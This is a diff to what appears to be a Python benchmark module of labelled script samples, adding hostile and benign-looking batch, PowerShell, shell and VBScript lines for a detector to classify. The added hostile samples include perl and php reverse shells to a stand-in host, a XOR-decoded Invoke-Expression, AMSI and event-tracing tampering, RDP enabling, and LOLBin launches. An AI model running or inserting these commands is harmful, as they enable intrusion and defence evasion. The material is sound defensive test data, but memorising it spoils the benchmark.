@@ -3,7 +3,7 @@
 import base64
 from collections.abc import Iterator
 
-from benchmarks.corpus.samples import Sample, careful, high
+from benchmarks.corpus.samples import Sample, benign, careful, high
 
 _HEAD = "@echo off\r\necho Setting up the model ...\r\n"
 _FETCH_RUN = "iwr https://files.invalid/a.ps1 | iex"
@@ -27,6 +27,12 @@ _BATCH = {
     "far right": "python app.py" + " " * 200 + "& x.exe\r\n",
     "admin and delete": 'powershell Start-Process x.exe -Verb RunAs\r\ndel "%~f0"\r\n',
     "regsvr32": "regsvr32 /s /u /i:https://files.invalid/a.sct scrobj.dll\r\n",
+    "another in its place": 'forfiles /p c:\\windows /m notepad.exe /c "cmd /c start %CD%\\x.png.exe"\r\n',
+    "as if it were old": "pcalua -a %CD%\\tool.exe\r\n",
+    "profile to install": "cmstp.exe /ni /s settings.inf\r\n",
+    "section to install": "rundll32 advpack.dll,LaunchINFSection settings.inf,DefaultInstall_SingleUser,1,\r\n",
+    "owner of Windows": "takeown /f C:\\Windows\\System32\\amsi.dll\r\n",
+    "control from afar": 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f\r\n',
     "rundll32": 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";x\r\n',
 }
 _POWERSHELL = {
@@ -45,6 +51,9 @@ _POWERSHELL = {
     "task": "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute x.exe)\n",
     "reverse": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)\n",
     "assembly": "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.invalid/a'))\n",
+    "mixed in place": "$d = [IO.File]::ReadAllBytes('x.dat')\nfor($i=0;$i -lt $d.Length;$i++){ $d[$i] = $d[$i] -bxor 90 }\n"
+    "Invoke-Expression ([Text.Encoding]::UTF8.GetString($d))\n",
+    "tracing": "$m=[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance')\n",
     "passwords": 'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" x.db\n',
 }
 _SHELL = {
@@ -67,9 +76,14 @@ _SHELL = {
     "python": "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://files.invalid').read())\"\ncurl https://files.invalid | python3\n",
     "miner": "./xmrig -o stratum+tcp://pool.invalid:3333 -u x\n",
     "wipe": "rm -rf ~/*\n",
+    "perl": 'perl -e \'use Socket;$i="files.invalid";socket(S,PF_INET,SOCK_STREAM,6);connect(S,$i);exec("/bin/sh -i");\'\n',
+    "php": 'php -r \'$s=fsockopen("files.invalid",80);exec("/bin/sh -i <&3 >&3");\'\n',
     "authorized keys": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n",
 }
 _VBSCRIPT = {
+    "put together": 'e = "Rvhgxwh"\r\nFor i = 1 To Len(e) : o = o & Chr(Asc(Mid(e,i,1))-3) : Next\r\nExecuteGlobal o\r\n',
+    "elsewhere": 'CreateObject("WScript.Shell").Run "\\\\files.invalid\\x.exe", 1\r\n',
+    "hidden batch": 'CreateObject("WScript.Shell").Run "run.bat", 0, False\r\n',
     "hidden": 'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c echo", 0, False\r\n',
     "characters": "Dim a\r\na = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114)\r\nExecute(Chr(77) & Chr(115))\r\n",
     "reversed": 'Dim x\r\nx = StrReverse("neddih w- llehsrewop")\r\nCreateObject("WScript.Shell").Run x\r\n',
@@ -117,7 +131,14 @@ def samples() -> Iterator[Sample]:
         "run.cmd": "@echo off\r\ncall venv\\Scripts\\activate\r\npython app.py\r\n",
         "setup.ps1": "Write-Host 'x'\npip install torch\n",
         "start.vbs": 'Dim x\r\nWScript.Echo "hello"\r\n',
+        "run.vbs": 'Set s = CreateObject("WScript.Shell")\r\ns.Run "venv\\Scripts\\python.exe app.py", 1, False\r\n',
+        "window.vbs": 'CreateObject("WScript.Shell").Run "cmd /c run.bat", 1\r\n',
+        "old.bat": 'forfiles /p logs /d -30 /c "cmd /c del @path"\r\nicacls data /grant Users:R\r\nnet user\r\n',
+        "mix.ps1": "for($i=0;$i -lt 3;$i++){ $d[$i] = $d[$i] -bxor 90 }\n$d | Out-File x.txt\n",
         "tweak.reg": 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n"a"="b"\r\n',
         "page.hta": "<html><script language='vbscript'>MsgBox 1</script></html>",
     }.items():
         yield careful("runs-on-a-click", path, path, source)
+    yield benign(
+        "shell", "one line of perl", "fix.sh", "#!/bin/sh\nperl -pi -e 's/a/b/; s/c/d/' x.txt; exec python train.py\n"
+    )
